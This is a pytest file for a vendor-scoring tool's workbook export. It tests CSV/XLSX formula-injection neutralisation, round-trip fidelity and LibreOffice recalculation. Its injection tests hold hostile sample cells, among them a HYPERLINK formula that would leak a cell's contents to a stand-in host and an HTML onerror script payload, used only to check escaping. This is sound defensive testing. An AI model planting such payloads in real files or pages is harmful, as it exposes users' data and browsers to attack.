"""Exported workbooks: injection-safe, round-trip exact, and their formulas compute.

The LibreOffice test recalculates exported workbooks headless (recipe in
``../shared/TESTING.md``) and compares every total and rank with the engine's at a
relative 1e-12 (LibreOffice writes about 15 significant digits).
"""

from __future__ import annotations

import csv
import io
import math
import shutil
import subprocess
from pathlib import Path

import numpy as np
import openpyxl
import pytest
import python_calamine
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scoring.builtin import load_areas, load_market
from scoring.evaluate import evaluate
from scoring.io import import_file, import_path
from scoring.io.export import export_csv, export_template, export_xlsx, neutralise
from scoring.io.texts import text
from scoring.models import (
    Criterion,
    Direction,
    Evaluation,
    Policies,
    RatingKind,
    RatingMatrix,
    Scale,
    Vendor,
    Weights,
)

HOSTILE = ("15-injection-in-vendor-names", "scores_hostile_names.csv", "weights.csv")


@pytest.fixture
def hostile(case_dir):
    folder = case_dir / HOSTILE[0]
    return import_path([folder / HOSTILE[1], folder / HOSTILE[2]])


# formula injection (case 15) ---------------------------------------------------------


def test_case_15_csv_export_neutralises_text_and_keeps_numbers(hostile):
    data = export_csv(
        hostile.evaluation,
        metadata=hostile.metadata,
        result=evaluate(hostile.evaluation),
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = rows[0]
    vendors = [r[0] for r in rows[1:]]
    assert vendors[:3] == [
        '\'=HYPERLINK("http://example.invalid/?q="&B2,"Vendor A")',
        "'+1 Solutions",
        "'@Cloud Ltd",
    ]
    assert vendors[3:] == [
        "<img src=x onerror=alert(1)>Vendor D",
        "<b>Vendor E</b>",
        "Vendor F<br>Holdings",
    ]
    notes = [r[header.index("Notes")] for r in rows[1:]]
    assert notes == [
        "'-see appendix",
        "'=1+1",
        "plain text",
        "'@mention the PM",
        "",
        "'+44 20 7946 0000",
    ]
    budget = [r[header.index("Budget delta (k€)")] for r in rows[1:]]
    assert budget == ["-15", "10", "25", "0", "-5", "30"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-15", "-15"),
        ("+3.5", "+3.5"),
        ("-x", "'-x"),
        ("plain", "plain"),
    ],
)
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_case_15_xlsx_export_writes_text_as_strings_and_reads_back(hostile):
    data = export_xlsx(hostile.evaluation, metadata=hostile.metadata)
    ws = openpyxl.load_workbook(io.BytesIO(data))["Ratings"]
    names = [ws.cell(row=r, column=1) for r in range(3, 9)]
    assert all(cell.data_type == "s" for cell in names)
    notes_col = 3 + len(hostile.evaluation.criteria) + 1
    notes = [ws.cell(row=r, column=notes_col) for r in range(3, 9)]
    assert [c.data_type for c in notes if c.value is not None] == ["s"] * 5
    budget = [ws.cell(row=r, column=notes_col - 1).value for r in range(3, 9)]
    assert budget == [-15, 10, 25, 0, -5, 30]

    again = import_file(data, "hostile.xlsx")
    assert again.evaluation == hostile.evaluation
    assert list(again.metadata["Notes"]) == list(hostile.metadata["Notes"])


# structure of the workbook ----------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_workbook_has_the_sheets_styles_and_validation(lang):
    evaluation = load_market("large")
    wb = openpyxl.load_workbook(io.BytesIO(export_xlsx(evaluation, lang=lang)))
    expected = ["about", "criteria", "ratings", "normalised", "scores", "ranking"]
    assert wb.sheetnames[:6] == [text(f"sheet_{k}", lang) for k in expected]
    ratings = wb[text("sheet_ratings", lang)]
    assert ratings.freeze_panes == "C3"
    first = evaluation.criteria[0]
    assert ratings["C1"].value == first.label(lang) and ratings["C2"].value == first.id
    [validation] = ratings.data_validations.dataValidation
    assert validation.type == "list" and "N/A,P" in validation.formula1
    assert ratings.conditional_formatting
    scores = wb[text("sheet_scores", lang)]
    assert str(scores["D2"].value).startswith("=IF(")
    assert "RANK(" in scores["F2"].value
    names = set(wb.defined_names)
    assert {"scale_low", "scale_high", "na_score", "partner_score"} <= names


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_template_is_blank_and_imports_once_filled(lang):
    data = export_template(lang)
    blank = import_file(data, "template.xlsx")
    assert [p.code for p in blank.errors] == ["no_vendors"]

    wb = openpyxl.load_workbook(io.BytesIO(data))
    ratings = wb[text("sheet_ratings", lang)]
    ratings["A3"] = "Acme"
    for col in range(3, 3 + len(load_areas())):
        ratings.cell(row=3, column=col).value = 7
    ratings["C3"] = 11
    out = io.BytesIO()
    wb.save(out)
    filled = import_file(out.getvalue(), "filled.xlsx")
    [error] = filled.errors
    assert error.code == "out_of_scale" and error.cell == "C3"


# round trip ---------------------------------------------------------------------

_TEXT = (
    st.text(
        alphabet=st.sampled_from(
            list("abcXYZ 019=+-@<>&'\"*/%#") + list("廠商評估準則資料雲端") + ["é", "€"]
        ),
        min_size=1,
        max_size=12,
    )
    .map(lambda s: " ".join(s.split()))
    .filter(
        lambda s: s and s.casefold() not in {"vendor", "marks", "n/a", "na", "p", "-"}
    )
)


@st.composite
def evaluations(draw) -> Evaluation:
    ids = draw(st.lists(_TEXT, min_size=1, max_size=5, unique_by=str.casefold))
    names = draw(st.lists(_TEXT, min_size=1, max_size=6, unique=True))
    low = draw(st.sampled_from([0.0, 1.0, -5.0]))
    scale = Scale(low=low, high=low + draw(st.sampled_from([4.0, 9.0, 100.0])))
    criteria = [
        Criterion(
            id=cid,
            label_en=draw(_TEXT),
            label_zh=draw(_TEXT),
            direction=draw(st.sampled_from(list(Direction))),
            description_en=draw(
                st.sampled_from(["", "a description", "=not a formula"])
            ),
            pillar=draw(st.sampled_from([None, "SA", "雲端"])),
        )
        for cid in ids
    ]
    kinds = draw(
        st.lists(
            st.lists(st.sampled_from(list(RatingKind)), min_size=len(ids)),
            min_size=len(names),
            max_size=len(names),
        )
    )
    kinds = np.array([row[: len(ids)] for row in kinds], dtype=np.int8)
    values = np.array(
        [
            [
                draw(st.floats(scale.low, scale.high, allow_nan=False))
                if k == RatingKind.VALUE
                else np.nan
                for k in row
            ]
            for row in kinds
        ]
    ).reshape(len(names), len(ids))
    weights = draw(st.lists(st.floats(0, 50), min_size=len(ids), max_size=len(ids)))
    present = [cid for cid in ids if draw(st.booleans())] or ids[:1]
    given = {cid: w for cid, w in zip(ids, weights, strict=True) if cid in present}
    if not any(given.values()):
        given[present[0]] = 1.0
    return Evaluation(
        name=draw(_TEXT),
        criteria=criteria,
        vendors=[Vendor(name=n, b2b=draw(st.booleans())) for n in names],
        ratings=RatingMatrix(vendors=names, criteria=ids, kinds=kinds, values=values),
        weights=Weights(values=given),
        policies=Policies(
            normalization=draw(st.sampled_from(["scale", "minmax", "vector", "none"])),
            not_offered_score=draw(st.floats(0, 1)),
            partner_score=draw(st.floats(0, 1)),
            unknown=draw(st.sampled_from(["flag", "rescale", "exclude", "zero"])),
            not_offered_rating=draw(
                st.none() | st.floats(-1e6, 1e6) | st.sampled_from([0.0, scale.low])
            ),
        ),
        scale=scale,
        source=draw(st.sampled_from(["", "consultant workshop", "資策會MIC"])),
    )


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(evaluation=evaluations(), lang=st.sampled_from(["en", "zh"]))
def test_export_then_import_gives_the_identical_evaluation(evaluation, lang):
    result = import_file(export_xlsx(evaluation, lang=lang), "round.xlsx")
    assert result.ok, [str(p) for p in result.errors]
    assert result.evaluation == evaluation


def test_round_trip_of_the_built_in_market_in_both_languages():
    for segment in ("large", "mid"):
        evaluation = load_market(segment)
        for lang in ("en", "zh"):
            back = import_file(export_xlsx(evaluation, lang=lang), "m.xlsx")
            assert back.evaluation == evaluation


# LibreOffice recalculation ------------------------------------------------------


def recalculate(data: bytes, workdir: Path) -> bytes:
    """The workbook after LibreOffice opened, recalculated and saved it."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    source = workdir / "export.xlsx"
    source.write_bytes(data)
    out = workdir / "out"
    out.mkdir()
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{workdir}/profile",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (out / "export.xlsx").read_bytes()


def _recalculated_scores(data: bytes, lang: str, workdir: Path):
    book = python_calamine.CalamineWorkbook.from_filelike(
        io.BytesIO(recalculate(data, workdir))
    )
    scores = book.get_sheet_by_name(text("sheet_scores", lang)).to_python()
    ranking = book.get_sheet_by_name(text("sheet_ranking", lang)).to_python()
    return scores[1:], [row[1] for row in ranking[1:] if row[1] != ""]


def _mid_market(policies: Policies) -> Evaluation:
    """The mid-size market: blanks in several rows, and Pivotal with no rating."""
    return load_market("mid").with_policies(policies)


def _market_with_weights(policies: Policies) -> Evaluation:
    weights = {"opportunity_mgmt": 3, "e_service": 2, "call_response": 1}
    weights |= {"campaign_mgmt": 0.5, "content_mgmt": 1.5}
    return load_market("large").with_weights(weights).with_policies(policies)


@pytest.mark.parametrize(
    ("label", "evaluation", "lang"),
    [
        ("scale, flag", _market_with_weights(Policies()), "en"),
        (
            "minmax, rescale",
            _market_with_weights(Policies(normalization="minmax", unknown="rescale")),
            "zh",
        ),
        (
            "vector, exclude",
            _market_with_weights(
                Policies(normalization="vector", unknown="exclude", partner_score=0.6)
            ),
            "en",
        ),
        ("none, flag", _market_with_weights(Policies(normalization="none")), "en"),
        (
            "minmax, zero, N/A as 0",
            _mid_market(
                Policies(normalization="minmax", unknown="zero", not_offered_rating=0)
            ),
            "zh",
        ),
        (
            "scale, zero, N/A as 0 (below the scale)",
            _mid_market(Policies(unknown="zero", not_offered_rating=0)),
            "en",
        ),
        (
            "vector, zero, N/A as 2",
            _mid_market(
                Policies(normalization="vector", unknown="zero", not_offered_rating=2)
            ),
            "en",
        ),
        (
            "none, rescale, N/A as 3",
            _mid_market(
                Policies(normalization="none", unknown="rescale", not_offered_rating=3)
            ),
            "zh",
        ),
    ],
)
def test_libreoffice_recalculates_every_score_as_the_engine(
    label, evaluation, lang, tmp_path
):
    engine = evaluate(evaluation)
    rows, ranking = _recalculated_scores(
        export_xlsx(evaluation, lang=lang), lang, tmp_path
    )
    assert [row[0] for row in rows] == [v.name for v in evaluation.vendors]
    for name, _, _, total, _, rank, *_ in rows:
        expected = engine.scores.loc[name, "total"]
        if math.isnan(expected):
            assert total == "", name
        else:
            assert total == pytest.approx(expected, rel=1e-12, abs=1e-15), name
            assert int(rank) == engine.scores.loc[name, "rank"], name
    assert ranking == list(engine.ranked.index)


def test_libreoffice_recalculates_the_case_12_minmax_workbook(case_dir, tmp_path):
    folder = case_dir / "12-constant-zero-negative-criteria"
    evaluation = import_path([folder / "scores.csv", folder / "weights.csv"]).evaluation
    engine = evaluate(evaluation)
    rows, ranking = _recalculated_scores(export_xlsx(evaluation), "en", tmp_path)
    totals = {row[0]: row[3] for row in rows}
    for name, total in totals.items():
        expected = engine.scores.loc[name, "total"]
        assert total == pytest.approx(expected, rel=1e-12)
    assert ranking == list(engine.ranked.index)


def test_libreoffice_recalculates_case_01_with_the_reference_policies(
    case_dir, tmp_path
):
    folder = case_dir / "01-na-tokens-vs-literal-na"
    imported = import_path([folder / "scores.csv", folder / "weights.csv"])
    policies = Policies(normalization="minmax", not_offered_rating=0, unknown="zero")
    evaluation = imported.evaluation.with_policies(policies)
    assert import_file(export_xlsx(evaluation), "case01.xlsx").evaluation == evaluation
    # rows left empty for new vendors: their blanks are not zeros in the range
    data = export_xlsx(evaluation, rows_for_new_vendors=2)
    rows, ranking = _recalculated_scores(data, "en", tmp_path)
    # case 01's expected.md, WSM column; coverage counts rated or marked cells only
    quoted = {"Vendor A": 0.5136, "Vendor B": 0.6, "Vendor C": 0.4, "Vendor D": 0.5182}
    assert [row[0] for row in rows] == [*quoted, "", ""]
    for name, coverage, _, total, *_ in rows[:4]:
        assert total == pytest.approx(quoted[name], abs=0.0005), name
        assert coverage == pytest.approx(0.75 if name == "Vendor D" else 1.0)
    assert ranking == ["Vendor B", "Vendor D", "Vendor A", "Vendor C"]
